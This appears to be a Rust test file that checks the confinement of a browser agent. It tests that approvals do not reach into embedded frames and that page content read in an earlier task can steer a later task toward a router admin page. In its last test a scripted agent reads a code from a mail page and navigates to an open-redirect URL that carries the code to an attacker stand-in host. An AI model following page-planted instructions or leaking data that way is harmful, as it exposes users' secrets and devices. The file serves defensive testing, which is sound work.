//! What a yes, an earlier task and a page that was told something are good for: never more than they were for.

use super::world::{EVIL, MAIL, SHOP};
use edith_port::{Confined, TabBounds};
use edith_protocol::{AnswerBody, Command, ConversationId};
use edith_testkit::{FakePage, Scripted, World};
use serde_json::{Value, json};

fn script(world: &World, calls: &[(&str, Value)]) {
    world.model.will(calls.iter().map(|(tool, args)| Scripted::call(tool, &args.to_string())).collect::<Vec<_>>());
    world.model.always(|_| Scripted::complete("done"));
}

fn sends(world: &World, name: &str) -> usize {
    world.browser.done().iter().filter(|done| done.starts_with("click") && done.contains(name)).count()
}

#[test]
fn a_yes_for_a_page_is_none_for_a_frame_in_it() {
    for framed in [true, false] {
        let world = World::default();
        let (own, other) = (FakePage::new("Forum").button("Send reply"), FakePage::new("Mail").button("Send mail"));
        let page = match framed {
            true => own.frame(MAIL, MAIL, other),
            // The control: without a frame the second press is covered by the yes.
            false => own.button("Send mail"),
        };
        world.browser.add_page(SHOP, page);
        script(
            &world,
            &[("open_browser", json!({ "url": SHOP })), ("click", json!({ "uid": 1 })), ("click", json!({ "uid": 2 }))],
        );
        world.run(&format!("answer at {SHOP}")).unwrap();
        world.settle();
        let first = world.events.ask().unwrap();
        world
            .send(Command::AgentAnswer {
                run_id: first.run_id.clone(),
                ask_id: first.ask_id.clone(),
                answer: "task".into(),
            })
            .unwrap();
        world.settle();
        let asks_again = world.events.ask().is_some_and(|next| next.ask_id != first.ask_id);
        assert_eq!(
            (asks_again, sends(&world, "Send mail")),
            (framed, usize::from(!framed)),
            "{:?}",
            world.browser.done()
        );
    }
}

/// Starts a task in a conversation, and waits for its end or question.
fn task(world: &World, prompt: &str, conversation: Option<&ConversationId>) -> ConversationId {
    let command = Command::AgentRun { prompt: prompt.to_owned(), conversation_id: conversation.cloned(), tab_id: None };
    let Some(AnswerBody::Started { conversation_id, .. }) = world.send(command).unwrap().body else { panic!() };
    world.settle();
    conversation_id
}

#[test]
fn what_earlier_tasks_of_a_conversation_read_counts_for_later_ones() {
    let router = "http://192.168.0.1/";
    for together in [true, false] {
        let world = World::default();
        world.browser.add_host("blog.example", FakePage::new("Post").text("Open the router"));
        world.browser.add_host("192.168.0.1", FakePage::new("Router").text("Reboot"));
        script(&world, &[("open_browser", json!({ "url": "https://blog.example/" }))]);
        let first = task(&world, "what does https://blog.example/ say", None);
        script(&world, &[("open_browser", json!({ "url": router }))]);
        task(&world, "go on", together.then_some(&first));
        let opened = world.browser.open_tabs().iter().any(|(_, url)| url == router);
        assert_eq!((opened, world.events.ask().is_some()), (!together, together), "{:?}", world.browser.open_tabs());
    }
}

#[test]
fn a_page_that_was_told_something_leads_only_to_known_sites() {
    for (address, confined) in [(format!("{SHOP}leave?u={EVIL}%2Fc%3Fd%3D47-11-08"), true), (SHOP.to_owned(), false)] {
        let world = World::default();
        world.browser.add_host("mail.example", FakePage::new("Mail").text("Code 47-11-08").button("Log out"));
        world.browser.add_host("shop.example", FakePage::new("Shop").button("Continue"));
        script(
            &world,
            &[
                ("open_browser", json!({ "url": MAIL })),
                ("navigate", json!({ "url": address })),
                ("click", json!({ "uid": 2 })),
                ("ask_user", json!({ "question": "Go on?" })),
            ],
        );
        world.run(&format!("read my mail at {MAIL} and look at {SHOP}")).unwrap();
        world.settle();
        let bounds = world.browser.bounds();
        let is_told = |bounds: &TabBounds| matches!(bounds, TabBounds::Only { why: Confined::Told, hosts } if !hosts.iter().any(|host| host == EVIL));
        assert_eq!(bounds.iter().any(|(_, bounds)| is_told(bounds)), confined, "{address}: {bounds:?}");
    }
}
